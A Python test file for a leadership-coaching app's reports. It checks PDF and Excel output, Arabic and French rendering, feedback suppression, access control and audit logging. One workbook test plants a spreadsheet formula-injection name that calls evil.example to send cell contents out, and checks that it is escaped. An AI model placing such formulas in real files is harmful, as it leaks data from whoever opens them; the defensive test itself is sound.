"""Reports people keep (issue 24): the personal and cohort PDFs read as text (pypdf), the
workbook read back with openpyxl, the ZIP of a cohort's reports, access and suppression.

The PDFs are rendered by WeasyPrint for the demo organisation; `make screenshots`-style
images of their pages come from `pdftoppm` (see the README's "Reports" section)."""

from __future__ import annotations

import io
import re
import subprocess
import sys
import types
import unicodedata
import zipfile
from datetime import date

import openpyxl
import pypdf
import pytest
from sqlmodel import select

from leadcoach.demo import NEW_SUPERVISOR, email_for, load_demo
from leadcoach.instrument import bank, translations
from leadcoach.measurement import multirater as mr
from leadcoach.people.access import load_viewer
from leadcoach.platform import i18n
from leadcoach.platform.config import Settings
from leadcoach.platform.db import make_engine, migrate, session_scope
from leadcoach.platform.errors import AccessDenied
from leadcoach.platform.languages import SUPPORTED
from leadcoach.platform.models import AuditEvent, Cohort, Person, RaterForm, TeamCoach
from leadcoach.programmes import cohorts, feedback_reports
from leadcoach.reporting import batch, cohort_report, pdf, person_report, vocabulary, workbook

TODAY = date(2026, 11, 2)
SPRING = "2026 Spring intake"
# Column codes of the core's frames: none may reach a reader.
CODE = re.compile(r"\b[a-z]+_[a-z_]+\b")
EMPTY_SPELLINGS = re.compile(r"\b(None|NaN|nan|NaT)\b|<NA>")


@pytest.fixture(scope="module")
def demo(tmp_path_factory):
    settings = Settings(database_url=f"sqlite:///{tmp_path_factory.mktemp('r') / 'demo.db'}")
    migrate(settings)
    engine = make_engine(settings)
    with session_scope(engine) as session:
        instrument = bank.load_bank(settings.assessments_dir).current(settings.instrument_id)
        load_demo(session=session, instrument=instrument, password="demo password 1", today=TODAY)
    with session_scope(engine) as session:
        inputs = person_report.inputs(session=session, settings=settings, instrument=instrument)
    yield settings, engine, inputs
    engine.dispose()


def _viewer(session, name: str):
    person = session.exec(select(Person.id).where(Person.email == email_for(name))).one()
    return load_viewer(session=session, person_id=person)


def _pages(data: bytes) -> list[str]:
    return [page.extract_text() for page in pypdf.PdfReader(io.BytesIO(data)).pages]


def _flat(text: str) -> str:
    return " ".join(text.split())


def _spring(session) -> int:
    return session.exec(select(Cohort.id).where(Cohort.name == SPRING)).one()


def test_a_supervisors_report_reads_as_a_report(demo):
    _settings, engine, inputs = demo
    with session_scope(engine) as session:
        ana = _viewer(session, "Ana Lima")
        data = person_report.download(
            session=session, viewer=ana, person_id=ana.person_id, inputs=inputs, today=TODAY
        )
        values = person_report.report_values(
            session=session, viewer=ana, person_id=ana.person_id, inputs=inputs, today=TODAY
        )
    pages = _pages(data)
    text = _flat(" ".join(pages))
    assert data.startswith(b"%PDF")
    assert 4 <= len(pages) <= 9, len(pages)
    assert "Ana Lima" in pages[0] and f"version {inputs.instrument.version}" in _flat(pages[0])
    for skill in inputs.instrument.skills:
        assert _flat(skill.name) in text, skill.name
    for heading in ("How to read this report", "Strengths", "Development areas",
                    "Behaviours you rated highest", "Situational judgement",
                    "Change since your previous assessment", "Development plan"):  # fmt: skip
        assert heading in text, heading
    assert not CODE.findall(text), CODE.findall(text)
    assert not EMPTY_SPELLINGS.findall(text)
    for number, page in enumerate(pages, 1):  # the footer on every page
        assert f"Page {number} of {len(pages)}" in _flat(page)
        assert "Confidential" in page and "Ana Lima" in page
    # No table row split across pages: each statement's whole text lies on one page.
    for row in values["behaviours_high"] + values["behaviours_low"]:
        assert any(_flat(row["statement"]) in _flat(page) for page in pages), row
    with session_scope(engine) as session:
        event = session.exec(select(AuditEvent).order_by(AuditEvent.id.desc())).first()
    assert event.action == "export" and '"person_pdf"' in event.detail


def test_a_report_of_someone_with_an_arabic_name_is_shaped(demo):
    _, engine, inputs = demo
    with session_scope(engine) as session:
        hr = _viewer(session, "Helen Okafor")
        ana = session.exec(select(Person).where(Person.email == email_for("Ana Lima"))).one()
        ana.name = "ليلى حسن"
        session.flush()
        data = person_report.build(
            session=session, viewer=hr, person_id=ana.id, inputs=inputs, today=TODAY
        )
        session.rollback()
    # pypdf gives pure-Arabic lines in logical order (STACK-NOTES).
    assert "ليلى حسن" in _pages(data)[0]


def _rows_split(css: str = "") -> list[int]:
    """Sixty table rows of four to eleven lines, in the person's report with its style
    sheet (plus `css`): the rows whose text does not lie whole on one page. The heights
    vary so that the space left at the foot of some pages holds two lines or more: rows of
    one height can all fall between page breaks by the geometry alone (they did, and the
    old test passed without the rule)."""
    rows = "".join(
        f"<tr><td>start{i:02d} " + "word " * (60 + (i * 37) % 90) + f"stop{i:02d}</td>"
        f"<td>{i}</td></tr>"
        for i in range(60)
    )
    page = pdf.render_html("person_report.html", **_empty_values()).replace(
        "</body>", f"<style>{css}</style><table><tbody>{rows}</tbody></table></body>"
    )
    pages = [_flat(p) for p in _pages(pdf.to_pdf(page))]
    return [
        i for i in range(60) if not any(f"start{i:02d}" in p and f"stop{i:02d}" in p for p in pages)
    ]


def _pdftotext(data: bytes, folder, *options: str) -> str:
    """The PDF's text as poppler's pdftotext reads it (scripts/test-services installs it)."""
    path = folder / "report.pdf"
    path.write_bytes(data)
    return subprocess.run(
        ["pdftotext", *options, str(path), "-"], capture_output=True, check=True, text=True
    ).stdout


# pdftotext marks right-to-left runs with embeddings (U+202A-U+202E); the isolates
# (U+2066-U+2069) are the report's own, around names and comments.
BIDI_MARKS = re.compile("[\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def test_the_others_view_shows_only_what_the_360_gate_lets_through(demo, tmp_path):
    _, engine, inputs = demo
    kept, dropped = (
        "Huddles that start on time every morning",
        "Quarterly vendor reviews in writing",
    )
    with session_scope(engine) as session:
        ana = _viewer(session, "Ana Lima")
        forms = session.exec(
            select(RaterForm).where(
                RaterForm.supervisor_id == ana.person_id, RaterForm.status == "submitted"
            )
        ).all()
        # A comment of each: agents (shown, 4 answered) and client contacts (2, below the
        # minimum of 3: the demo drops them, scores and comments).
        next(f for f in forms if f.rater_group == "direct_report").keep_doing = kept
        next(f for f in forms if f.rater_group == "counterpart").keep_doing = dropped
        session.flush()
        core = feedback_reports.supervisor_report(
            session=session, viewer=ana, supervisor_id=ana.person_id,
            instrument=inputs.instrument, thresholds=inputs.thresholds,
            min_raters=inputs.min_raters,
        )  # fmt: skip
        section = person_report.report_values(
            session=session, viewer=ana, person_id=ana.person_id, inputs=inputs, today=TODAY
        )["others"]
        own = person_report.build(
            session=session, viewer=ana, person_id=ana.person_id, inputs=inputs, today=TODAY
        )
        coach_id = session.exec(
            select(TeamCoach.coach_id).where(
                TeamCoach.team_id == session.get(Person, ana.person_id).team_id
            )
        ).first()
        coach = load_viewer(session=session, person_id=coach_id)
        coachs = person_report.build(
            session=session, viewer=coach, person_id=ana.person_id, inputs=inputs, today=TODAY
        )
        hr = _viewer(session, "Helen Okafor")
        hrs = person_report.build(
            session=session, viewer=hr, person_id=ana.person_id, inputs=inputs, today=TODAY
        )
        new = _viewer(session, NEW_SUPERVISOR)
        first = person_report.build(
            session=session, viewer=new, person_id=new.person_id, inputs=inputs, today=TODAY
        )
        session.rollback()
    assert core.hidden_groups == (mr.COUNTERPART,)  # the premise: one group is dropped
    words = vocabulary.report_words()
    text = _flat(_pdftotext(own, tmp_path))
    layout = _flat(_pdftotext(own, tmp_path, "-layout"))
    assert words["others_view"] in text
    # Shown: each shown group by name, the kept comment, each skill's figures exactly as
    # the core's gated report gives them (the row's figures in a line of the PDF).
    shown = sorted(set(core.skills["group"]), key=mr.GROUP_ORDER.get)
    for group in shown:
        assert vocabulary.cell(group, column="group") in text, group
    assert kept in text
    scores = core.skills.pivot_table(index="skill", columns="group", values="score")
    assert len(section.table["rows"]) == len(scores) > 0
    for row in section.table["rows"]:
        expected = [vocabulary.cell(scores.loc[row[0]].get(g), ".0f") for g in shown]
        assert row[1:] == expected, row
        assert " ".join(expected) in layout, row
    # Dropped: the client contacts' comment and figures appear nowhere; their group is
    # named once, in the sentence that says it had too few answers.
    assert dropped not in text
    contacts = vocabulary.cell(mr.COUNTERPART, column="group")
    assert text.count(contacts) == 1
    assert words["others_hidden"].format(groups=contacts) in text
    assert contacts not in section.table["headers"] and mr.COUNTERPART not in shown
    # The coach reads it too; HR (cohort aggregates only) gets the report without it; a
    # supervisor with no closed round is told so plainly.
    assert words["others_view"] in _flat(_pdftotext(coachs, tmp_path))
    hr_text = _flat(_pdftotext(hrs, tmp_path))
    assert words["others_view"] not in hr_text and kept not in hr_text
    assert _flat(words["others_none"]) in _flat(_pdftotext(first, tmp_path))


def _letters(text: str) -> str:
    """Text compared by its letters and digits only: no punctuation (whose place in mixed
    right-to-left runs extraction does not keep), vowel marks (Unicode Mn) or alef seat of
    hamza. WeasyPrint maps a mark's glyph back to the first text it drew it for, so a
    damma can read back as "أُ" (the page shows the word right: pdftoppm)."""
    unmarked = (c for c in BIDI_MARKS.sub("", text) if unicodedata.category(c) != "Mn")
    return _flat("".join(c if c.isalnum() else " " for c in unmarked if c not in "أإآ"))


def _line_boxes(data: bytes, folder, page: int) -> list[tuple[float, float, float, str]]:
    """The words of one page with pdftotext -bbox: (y, x_min, x_max, text)."""
    found = re.findall(
        r'<word xMin="([\d.]+)" yMin="([\d.]+)" xMax="([\d.]+)" yMax="[\d.]+">([^<]*)</word>',
        _pdftotext(data, folder, "-bbox", "-f", str(page), "-l", str(page)),
    )
    return [(float(y), float(x0), float(x1), word) for x0, y, x1, word in found]


def _heading_box(words_on_page, heading: str, rtl: bool) -> tuple[float, float]:
    """The left and right ends of the heading's line on the page. The -bbox words of a
    right-to-left line come in drawing order, each word's letters reversed."""
    wanted = heading.split()
    lines: dict[float, list] = {}
    for y, x0, x1, word in words_on_page:
        lines.setdefault(y, []).append((x0, x1, word[::-1] if rtl else word))
    for line in lines.values():
        if sorted(w for *_, w in line) == sorted(wanted):
            return min(x0 for x0, *_ in line), max(x1 for _, x1, _ in line)
    raise AssertionError(f"{heading!r} not found as a line")


def test_a_persons_report_is_in_their_language_right_to_left_in_arabic(demo, tmp_path):
    _, engine, inputs = demo
    with session_scope(engine) as session:
        farid = session.exec(select(Person).where(Person.email == email_for("Farid Haddad"))).one()
        assert farid.language == "ar"  # the demo's Arabic-speaking supervisor
        viewer = load_viewer(session=session, person_id=farid.id)
        arabic = person_report.build(
            session=session, viewer=viewer, person_id=farid.id, inputs=inputs, today=TODAY
        )
        english = person_report.build(
            session=session, viewer=viewer, person_id=farid.id, inputs=inputs, today=TODAY,
            language="en",
        )  # fmt: skip
    with i18n.using("ar"):
        words = vocabulary.report_words()
        headers = vocabulary.header_words()
    skills = inputs.shown_in("ar")[0].skills
    # pypdf gives pure-Arabic lines in logical order (STACK-NOTES); pdftotext turns the
    # lam-alef ligature and letters with hamza round, though the page shows them right.
    text = _letters(" ".join(_pages(arabic)))
    # The template's own headings, the table headers and the questionnaire's texts in
    # Arabic, and no English heading left.
    for key in ("person_title", "how_to_read", "profile", "strengths", "develop", "change",
                "others_view", "plan", "blind_spots", "confidential"):  # fmt: skip
        assert _letters(words[key]) in text, key
    assert _letters(headers["skill"]) in text and headers["skill"] != "Skill"
    for skill in skills:  # word by word: a name wrapped around brackets reads back jumbled
        assert all(word in text.split() for word in _letters(skill.name).split()), skill.name
    for english_words in ("How to read this report", "Development plan", "How others see you",
                          "Page 1 of", "Skill"):  # fmt: skip
        assert english_words not in text, english_words
    # Right to left: the heading sits against the right margin (A4, the page's 16 mm and
    # the body's 8 px: its right end at 544 pt of 595), where the English report's starts
    # at the left margin.
    width, margin = 595.3, 16 / 25.4 * 72 + 6
    right = _heading_box(_line_boxes(arabic, tmp_path, 2), words["how_to_read"], rtl=True)
    left = _heading_box(_line_boxes(english, tmp_path, 2), "How to read this report", rtl=False)
    assert abs(right[1] - (width - margin)) < 3 and right[0] > width / 2, right
    assert abs(left[0] - margin) < 3 and left[1] < width / 2, left


def test_no_table_row_is_split_across_pages():
    # Rows of four lines or more can break inside (WeasyPrint's default orphans and widows
    # of 2), so only the style sheet's `tr {break-inside: avoid}` keeps each whole: with
    # the rule removed from report.css this test fails (it did: rows 6, 23, 40 and 49
    # split). The second call shows the rows split without the rule, so the first can fail.
    assert _rows_split() == []
    assert _rows_split("tr { break-inside: auto; }"), "the test's rows cannot split at all"


def _empty_values() -> dict:
    return {
        "t": vocabulary.REPORT, "h": vocabulary.HEADERS, "name": "A", "footer": "A",
        "team": "T", "instrument": "I", "generated": "today", "empty": True,
        "no_results": "none", "others": None, "goals": [], "team_numbers": None,
    }  # fmt: skip


def test_a_supervisor_cannot_download_anothers_report(demo):
    _, engine, inputs = demo
    with session_scope(engine) as session:
        ana = _viewer(session, "Ana Lima")
        ben = _viewer(session, "Ben Carter")
        with pytest.raises(AccessDenied):
            person_report.download(
                session=session, viewer=ana, person_id=ben.person_id, inputs=inputs
            )
        for build in (cohort_report.report_values, batch.cohort_zip):
            with pytest.raises(AccessDenied):
                if build is batch.cohort_zip:
                    build(session=session, viewer=ana, cohort_id=_spring(session), inputs=inputs)
                else:
                    build(
                        session=session, viewer=ana, review=None, cohort_name="x",
                        thresholds={}, min_group=3,
                    )  # fmt: skip


def _review(session, viewer, inputs, min_group):
    return cohorts.cohort_review(
        session=session, viewer=viewer, cohort_id=_spring(session),
        instrument=inputs.instrument, min_group=min_group, today=TODAY,
    )  # fmt: skip


def test_the_cohort_report_reads_in_a_minute_and_suppresses_as_the_page_does(demo):
    _, engine, inputs = demo
    minimum = 5  # the Spring intake has a skill with four pairs: it must be suppressed
    with session_scope(engine) as session:
        hr = _viewer(session, "Helen Okafor")
        review = _review(session, hr, inputs, minimum)
        data = cohort_report.build(
            session=session, viewer=hr, cohort_id=_spring(session), review=review,
            thresholds=inputs.thresholds, min_group=minimum, today=TODAY,
        )  # fmt: skip
        coach = _viewer(session, "Priya Shah")
        with pytest.raises(AccessDenied):
            cohort_report.build(
                session=session, viewer=coach, cohort_id=_spring(session), review=review,
                thresholds=inputs.thresholds, min_group=minimum,
            )  # fmt: skip
    pages = _pages(data)
    text = _flat(" ".join(pages))
    assert 3 <= len(pages) <= 14, len(pages)
    first = _flat(pages[0])
    assert SPRING in first and "The cohort in one minute" in first
    assert "What to do next" in first and "Completion" in first
    for skill in inputs.instrument.skills:
        assert _flat(skill.name) in text, skill.name
    assert not CODE.findall(text), CODE.findall(text)
    assert not EMPTY_SPELLINGS.findall(text)
    assert "Holm" in text and "Jacobson and Truax" in text
    # Suppressed exactly where the review's own gate suppressed: those rows say why.
    hidden = review.changes[review.changes["suppressed"]]
    assert not hidden.empty
    table = text.split("Scores at each round")[0].rsplit("Change per skill", 1)[1]
    for skill in hidden["skill"]:
        row = table.split(_flat(skill), 1)[1][:80]
        assert vocabulary.SUPPRESSED in row, (skill, row)
    # Breakdown groups hidden on the page are named as hidden in the report.
    latest = review.round_scores.dropna(subset=["score"]).sort_values("round_order")
    split = cohorts.breakdown(review.round_scores, "team", latest["round"].iloc[-1], minimum)
    for group, all_hidden in split.groupby("group")["suppressed"].all().items():
        if all_hidden:
            assert group in text.split("Breakdowns by team", 1)[1], group


def test_the_workbook_opens_ready_to_read(demo):
    _, engine, inputs = demo
    with session_scope(engine) as session:
        hr = _viewer(session, "Helen Okafor")
        ana = session.exec(select(Person).where(Person.email == email_for("Ana Lima"))).one()
        ana.name = '=HYPERLINK("http://evil.example/?x="&A1,"Ana")'
        session.flush()
        review = _review(session, hr, inputs, 5)
        data = workbook.build(
            session=session, viewer=hr, cohort_id=_spring(session), review=review,
            instrument=inputs.instrument, thresholds=inputs.thresholds, min_group=5,
            today=TODAY,
        )  # fmt: skip
        session.rollback()
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == [
        "Summary", "Completion", "Change per skill", "Scores at each round", "Scores", "Notes"
    ]  # fmt: skip
    for sheet in book:
        headers = [cell.value for cell in sheet[1]]
        assert all(h and not CODE.search(h) for h in headers), headers
        assert sheet.freeze_panes in ("B2", "C2"), sheet.title
        assert sheet.auto_filter.ref and sheet.auto_filter.ref.startswith("A1:")
        for index, header in enumerate(headers, 1):
            width = sheet.column_dimensions[openpyxl.utils.get_column_letter(index)].width
            assert width >= min(len(header), workbook.MAX_WIDTH), (sheet.title, header)
        for row in sheet.iter_rows(min_row=2, values_only=True):
            assert not any(isinstance(v, str) and EMPTY_SPELLINGS.search(v) for v in row)
    scores = book["Scores"]
    headers = [cell.value for cell in scores[1]]
    day = scores.cell(2, headers.index("Submitted on") + 1)
    assert day.is_date and day.number_format == workbook.DATE_FORMAT
    skill = scores.cell(2, headers.index(inputs.instrument.skills[0].name) + 1)
    assert isinstance(skill.value, float) and skill.number_format == workbook.ONE_DECIMAL
    names = [row[0] for row in scores.iter_rows(min_row=2, values_only=True)]
    assert not any(n.startswith("=") for n in names)
    assert any(n.startswith("'=HYPERLINK") for n in names)
    change = book["Change per skill"]
    rows = list(change.iter_rows(min_row=2, values_only=True))
    suppressed = set(review.changes.loc[review.changes["suppressed"], "skill"])
    for row in rows:
        if row[0] in suppressed:
            assert vocabulary.SUPPRESSED in row and not isinstance(row[4], float)
        else:
            assert isinstance(row[4], float)
    completion = book["Completion"]
    rate = completion.cell(2, 8)
    assert isinstance(rate.value, int | float) and rate.number_format == workbook.PERCENT
    assert completion.cell(2, 3).is_date
    notes = [row[1] for row in book["Notes"].iter_rows(min_row=2, values_only=True)]
    assert any("Holm" in n for n in notes) and any("5" in n for n in notes)


def _workbook_in(engine, inputs, language: str, **options):
    """HR's workbook of the spring cohort, built in `language` (nothing written), and the
    review it was built from."""
    with session_scope(engine) as session, i18n.using(language):
        hr = _viewer(session, "Helen Okafor")
        review = _review(session, hr, inputs, 5)
        data = workbook.build(
            session=session, viewer=hr, cohort_id=_spring(session), review=review,
            instrument=inputs.instrument, thresholds=inputs.thresholds, min_group=5,
            today=TODAY, **options,
        )  # fmt: skip
        session.rollback()
    return data, review


def test_the_workbook_in_arabic_reads_in_arabic_right_to_left(demo):
    _, engine, inputs = demo
    data, _ = _workbook_in(engine, inputs, "ar")
    book = openpyxl.load_workbook(io.BytesIO(data))
    skills = {skill.name for skill in inputs.instrument.skills}  # the review's own names
    arabic = re.compile("[\u0600-\u06ff]")
    for sheet in book:
        assert arabic.search(sheet.title) and sheet.sheet_view.rightToLeft, sheet.title
        headers = [cell.value for cell in sheet[1]]
        assert all(arabic.search(h) or h in skills for h in headers), (sheet.title, headers)
    scores = book.worksheets[4]
    with i18n.using("ar"):
        column = [cell.value for cell in scores[1]].index(vocabulary.header_words()["language"])
        # A person with no language on their profile (their browser's decides) has an
        # empty cell, as openpyxl reads it back: None, never the text "None".
        languages = {row[column] for row in scores.iter_rows(min_row=2, values_only=True)}
        named = languages - {None}
        assert named and named <= {vocabulary.cell(c, column="language") for c in SUPPORTED}


def test_the_workbook_in_french_names_the_skills_in_french(demo):
    """Issue 25: the review's frames carry the questionnaire's English skill names (shared by
    every reader); the workbook built in French names every skill as the French
    questionnaire does, in headers and cells, and no English skill name is left."""
    _, engine, inputs = demo
    data, review = _workbook_in(engine, inputs, "fr", translations=inputs.translations)
    french = translations.skill_names(inputs.instrument, "fr", dict(inputs.translations))
    english = {skill.name for skill in inputs.instrument.skills}
    assert not set(french.values()) & english, "every skill has a French name"
    book = openpyxl.load_workbook(io.BytesIO(data))
    # Summary, completion, change per skill, scores at each round, scores, notes.
    cells = [[v for row in sheet.iter_rows(values_only=True) for v in row if v] for sheet in book]
    assert book.worksheets[2].title == "Changement par compétence"
    change, distribution, scores, notes = cells[2:]
    for skill in inputs.instrument.skills:
        name = french[skill.id]
        assert name in change and name in distribution and name in scores, name
    assert set(french.values()) <= set(notes)
    assert not [v for values in cells for v in values if v in english]
    # The cached review itself is unchanged: English for the next reader.
    assert set(review.distribution["skill"]) <= english


def test_every_members_report_in_one_zip_with_progress(demo, tmp_path, monkeypatch):
    _, engine, inputs = demo
    # Under Streamlit, __main__ is the page script being run: the workers must not run it.
    script = tmp_path / "page.py"
    script.write_text("raise SystemExit('the page script ran in a report worker')\n")
    page = types.ModuleType("__main__")
    page.__file__ = str(script)
    monkeypatch.setitem(sys.modules, "__main__", page)
    seen: list[tuple[int, int]] = []
    with session_scope(engine) as session:
        hr = _viewer(session, "Helen Okafor")
        members = cohorts.cohort_members(session=session, viewer=hr, cohort_id=_spring(session))
        data = batch.cohort_zip(
            session=session, viewer=hr, cohort_id=_spring(session), inputs=inputs,
            progress=lambda done, total: seen.append((done, total)), workers=2, today=TODAY,
        )  # fmt: skip
    archive = zipfile.ZipFile(io.BytesIO(data))
    assert len(archive.namelist()) == len(members) == seen[-1][1]
    assert [done for done, _ in seen] == list(range(len(members) + 1))
    for name in archive.namelist():
        pages = _pages(archive.read(name))
        assert name.endswith(".pdf") and len(pages) >= 3
    assert "leadcoach-report-ana-lima.pdf" in archive.namelist()
    with session_scope(engine) as session:
        event = session.exec(select(AuditEvent).order_by(AuditEvent.id.desc())).first()
    assert '"reports_zip"' in event.detail and f'"rows": {len(members)}' in event.detail
    assert sys.modules["__main__"] is page


def test_the_cohort_report_carries_the_teams_numbers_as_the_review_shows_them(demo):
    """Issue 23: the review's 'did the programme help the teams?' section goes into the
    cohort PDF with its caveats (or the reason it has no figures), from the same gated core
    section as the page; without the instrument the report is as before."""
    from leadcoach.reporting import kpi_section

    _, engine, inputs = demo
    minimum = 3
    with session_scope(engine) as session:
        hr = _viewer(session, "Helen Okafor")
        review = _review(session, hr, inputs, minimum)
        common = {"session": session, "viewer": hr, "cohort_id": _spring(session),
                  "review": review, "thresholds": inputs.thresholds, "min_group": minimum,
                  "today": TODAY}  # fmt: skip
        with_kpis = _flat(
            " ".join(_pages(cohort_report.build(**common, instrument=inputs.instrument)))
        )
        without = _flat(" ".join(_pages(cohort_report.build(**common))))
        section = kpi_section.cohort_kpi_section(
            session=session, viewer=hr, cohort_id=_spring(session), instrument=inputs.instrument,
            min_group=minimum, today=TODAY, round_scores=review.round_scores,
        )  # fmt: skip
    assert _flat(section.title) in with_kpis and _flat(section.title) not in without
    if section.empty:
        assert _flat(section.empty) in with_kpis
    else:
        assert _flat(section.caveats[-1]) in with_kpis
        for header in section.changes.columns:
            assert _flat(header) in with_kpis, header
        for measure in section.changes[section.changes.columns[0]]:
            assert _flat(measure) in with_kpis, measure


def test_the_persons_report_carries_their_teams_numbers(demo, tmp_path):
    """Issue 23: the team's latest month per measure, the same month a year earlier and the
    plan's target go into the person's report (the same figures as kpi_views gives the
    Team numbers page); a person whose team has no numbers gets no such section."""
    from leadcoach.programmes import kpi_views

    _, engine, inputs = demo
    with session_scope(engine) as session:
        ana = _viewer(session, "Ana Lima")
        kpis = kpi_views.supervisor_kpis(
            session=session, viewer=ana, person_id=ana.person_id, instrument=inputs.instrument
        )
        values = person_report.report_values(
            session=session, viewer=ana, person_id=ana.person_id, inputs=inputs, today=TODAY
        )["team_numbers"]
        data = person_report.build(
            session=session, viewer=ana, person_id=ana.person_id, inputs=inputs, today=TODAY
        )
        session.rollback()
    assert not kpis.values.empty  # the premise: the demo's Leeds Billing has numbers
    words = vocabulary.report_words()
    text = _flat(_pdftotext(data, tmp_path))
    lines = _pdftotext(data, tmp_path, "-layout").splitlines()
    assert words["team_numbers"] in text
    measures = sorted(set(kpis.values["measure"]))
    assert [row[0] for row in values["rows"]] == measures
    for row in values["rows"]:
        latest = kpis.values[kpis.values["measure"] == row[0]].sort_values("period").iloc[-1]
        assert row[2] == vocabulary.cell(latest["value"], ",.1f")
        # The row's measure, month and figures on one line of the PDF, in that order.
        assert any(
            all(cell in line for cell in row if cell != vocabulary.EMPTY)
            and line.index(row[0]) < line.index(row[1]) < line.rindex(row[2])
            for line in lines
        ), row
    for bad in ("nan", "None", "<NA>", "year_earlier"):
        assert bad not in " ".join(" ".join(row) for row in values["rows"])


def test_the_cohort_report_names_the_skills_in_its_language(demo):
    """Issue 25: built in French, the cohort report names each skill as the questionnaire's
    French translation does (page one, the forest plot, the tables, the breakdowns), none
    as the English source; the figures are the same review's."""
    _, engine, inputs = demo
    with session_scope(engine) as session, i18n.using("fr"):
        hr = _viewer(session, "Helen Okafor")
        review = _review(session, hr, inputs, 5)
        data = cohort_report.build(
            session=session, viewer=hr, cohort_id=_spring(session), review=review,
            thresholds=inputs.thresholds, min_group=5, today=TODAY,
            instrument=inputs.instrument, translations=inputs.translations,
        )  # fmt: skip
        session.rollback()
    text = _flat(" ".join(_pages(data)))
    french = {s.id: s.name for s in inputs.shown_in("fr")[0].skills}
    for skill in inputs.instrument.skills:
        assert french[skill.id] != skill.name
        assert _flat(skill.name) not in text, skill.name
        assert _flat(french[skill.id]) in text, french[skill.id]
    # The review itself (cached and shared by every reader) keeps the source's names.
    assert set(review.changes["skill"]) <= {s.name for s in inputs.instrument.skills}
